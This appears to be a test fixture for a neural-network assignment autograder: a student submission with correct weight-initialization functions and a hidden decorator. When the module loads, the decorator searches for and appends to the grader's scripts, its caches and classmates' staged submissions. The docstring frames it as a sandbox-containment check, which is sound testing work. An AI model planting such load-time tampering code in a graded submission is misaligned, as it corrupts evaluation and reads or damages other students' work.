"""Hostile: while it loads, tries what a submission could do where the grader's files are visible: rewrite the
grader's own scripts (dist/, the Node workers), poison the course-model run cache (~/.cache/nn-grader) and
the interpreter cache ($TMPDIR/nn-grader-python-*.json), and read and overwrite a classmate's staged
submission (/tmp/nn-grader-*). Contained at both bubblewrap and namespaces: none of those paths exists in the
child's private filesystem. It prints what it managed (nothing). Its functions are correct."""
import glob
import os
import sys

import numpy as np


touched = []


def _grader_root():
    driver = sys.modules.get("nngrader_driver")
    if driver is None:
        return None
    return os.path.abspath(os.path.join(os.path.dirname(driver.__file__), "..", "..", "..", ".."))


def _targets():
    root = _grader_root()
    if root is not None:
        yield from glob.glob(os.path.join(root, "dist", "grader", "**", "*.js"), recursive=True)
    for home in ("/root", os.path.expanduser("~"), "/home/grader"):
        yield from glob.glob(os.path.join(home, ".cache", "nn-grader", "**", "*"), recursive=True)
    for tmp in ("/tmp", "/var/tmp", os.environ.get("TMPDIR", "/tmp")):
        yield from glob.glob(os.path.join(tmp, "nn-grader-python-*.json"))
        yield from glob.glob(os.path.join(tmp, "nn-grader-*", "*"))
        yield from glob.glob(os.path.join(tmp, "nn-grader-scripts-*", "*"))


def _tamper():
    for _path in _targets():
        if os.path.realpath(_path) == os.path.realpath(__file__) or not os.path.isfile(_path):
            continue
        try:
            with open(_path, "rb") as _f:
                _f.read(64)
            touched.append("read " + _path)
            with open(_path, "ab") as _f:
                _f.write(b"\n# tampered\n")
            touched.append("wrote " + _path)
        except OSError:
            pass
    print("tampered: %s" % ", ".join(touched))


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    _tamper()
    return function


def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


@_at_load
def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
